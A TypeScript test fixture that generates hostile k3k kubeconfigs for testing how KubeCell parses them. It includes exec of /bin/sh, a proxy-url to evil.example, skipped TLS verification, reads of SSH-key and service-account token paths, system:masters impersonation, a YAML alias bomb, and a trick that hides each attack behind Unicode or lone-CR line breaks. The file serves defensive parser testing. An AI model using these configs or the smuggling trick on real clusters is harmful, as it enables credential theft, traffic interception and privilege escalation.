// Hostile k3k kubeconfigs (issue 23, finding 1): what whoever controls k3k's Secret, or a
// managed cluster's cell agent, could hand KubeCell to publish. Each attack is written plainly
// and hidden behind every line break go-yaml knows and the `yaml` package does not: its lines
// joined with U+2028, U+2029, U+0085 or a lone CR onto the `current-context` line, so that
// KubeCell's parser sees one string where kubectl's sees the attack.
import { K3K_KUBECONFIG, MARKER } from '../../hooks/virtualcluster/testing.js';

export interface HostileKubeconfig {
  name: string;
  text: string;
  /**
   * The clientcmd field the attack sets, as kubectl's reading shows it (`users[0].user.exec`);
   * undefined when clientcmd has no such field (it drops unknown keys), so kubectl's reading of
   * the raw text cannot show it.
   */
  field?: string;
}

/** Line breaks go-yaml honours (go.yaml.in/yaml/v2 `is_break`) besides LF. */
export const HIDDEN_BREAKS: readonly { name: string; character: string }[] = [
  { name: 'U+2028', character: '\u2028' },
  { name: 'U+2029', character: '\u2029' },
  { name: 'U+0085', character: '\u0085' },
  { name: 'lone CR', character: '\r' },
];

const CA = 'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==';

/** The `users:` section of K3K_KUBECONFIG with `lines` added to its user. */
function users(lines: string[]): string[] {
  return ['users:', '- name: default', '  user:', ...lines.map((line) => `    ${line}`)];
}

/** The `clusters:` section with `lines` added to its cluster. */
function clusters(lines: string[]): string[] {
  return [
    'clusters:',
    '- name: default',
    '  cluster:',
    '    server: https://10.43.12.34:443',
    `    certificate-authority-data: ${CA}`,
    ...lines.map((line) => `    ${line}`),
  ];
}

interface Attack {
  name: string;
  /** Top-level lines; a `users:` or `clusters:` section replaces k3k's own. */
  lines: string[];
  field?: string;
}

function deepNesting(levels: number): string {
  return `x: ${'['.repeat(levels)}1${']'.repeat(levels)}`;
}

function aliasBomb(): string[] {
  const lines = ['a0: &a0 [lol, lol, lol, lol, lol, lol]'];
  for (let level = 1; level <= 6; level += 1) {
    const previous = `*a${level - 1}`;
    lines.push(`a${level}: &a${level} [${Array(6).fill(previous).join(', ')}]`);
  }
  return lines;
}

const ATTACKS: readonly Attack[] = [
  {
    name: 'exec',
    lines: users([
      'exec:',
      '  apiVersion: client.authentication.k8s.io/v1',
      '  command: /bin/sh',
      `  args: ["-c", "echo ${MARKER}"]`,
      '  interactiveMode: Never',
    ]),
    field: 'users[0].user.exec',
  },
  {
    name: 'auth-provider',
    lines: users(['auth-provider:', '  name: oidc', `  config: {id-token: ${MARKER}}`]),
    field: 'users[0].user.auth-provider',
  },
  {
    name: 'proxy-url',
    lines: clusters(['proxy-url: http://evil.example:3128']),
    field: 'clusters[0].cluster.proxy-url',
  },
  {
    name: 'insecure-skip-tls-verify',
    lines: clusters(['insecure-skip-tls-verify: true']),
    field: 'clusters[0].cluster.insecure-skip-tls-verify',
  },
  {
    name: 'CA file path',
    lines: clusters(['certificate-authority: /etc/kubernetes/pki/ca.crt']),
    field: 'clusters[0].cluster.certificate-authority',
  },
  {
    name: 'client key file path',
    lines: users(['client-key: /home/tenant/.ssh/id_rsa']),
    field: 'users[0].user.client-key',
  },
  {
    name: 'token file path',
    lines: users(['tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token']),
    field: 'users[0].user.tokenFile',
  },
  {
    name: 'impersonation',
    lines: users(['token: abc', 'as: system:admin', 'as-groups: [system:masters]']),
    field: 'users[0].user.as',
  },
  {
    name: 'extensions',
    lines: ['extensions:', `- name: ${MARKER}`, '  extension: {kind: Config, apiVersion: v1}'],
    field: 'extensions',
  },
  { name: 'alias bomb', lines: aliasBomb() },
  {
    name: 'duplicate key',
    lines: ['current-context: evil', 'contexts:', '- name: evil', '  context: {cluster: default}'],
  },
  {
    name: 'merge key',
    lines: [
      'evil: &evil {exec: {command: /bin/sh, apiVersion: client.authentication.k8s.io/v1}}',
      ...users(['<<: *evil']),
    ],
    field: 'users[0].user.exec',
  },
  { name: 'deep nesting', lines: [deepNesting(400)] },
];

/** K3K_KUBECONFIG without its top-level section `key` (from `key:` to the next top-level key). */
function withoutSection(text: string, key: string): string {
  return text.replace(new RegExp(`^${key}:\\n(?:[ -].*\\n)*`, 'm'), '');
}

/** K3K_KUBECONFIG with `lines` after its current-context line, joined by `separator`. */
function inject(attack: Attack, separator: string): string {
  let base = K3K_KUBECONFIG;
  for (const section of ['users', 'clusters']) {
    if (attack.lines[0] === `${section}:` || attack.lines.includes(`${section}:`)) {
      base = withoutSection(base, section);
    }
  }
  const anchor = 'current-context: default';
  const joined = [anchor, ...attack.lines].join(separator);
  return base.replace(anchor, joined);
}

/** Every attack written plainly, then hidden behind each of HIDDEN_BREAKS. */
export function hostileKubeconfigs(): HostileKubeconfig[] {
  const corpus: HostileKubeconfig[] = [];
  for (const attack of ATTACKS) {
    const field = attack.field === undefined ? {} : { field: attack.field };
    corpus.push({ name: attack.name, text: inject(attack, '\n'), ...field });
    for (const hidden of HIDDEN_BREAKS) {
      corpus.push({
        name: `${attack.name} behind ${hidden.name}`,
        text: inject(attack, hidden.character),
        ...field,
      });
    }
  }
  return corpus;
}
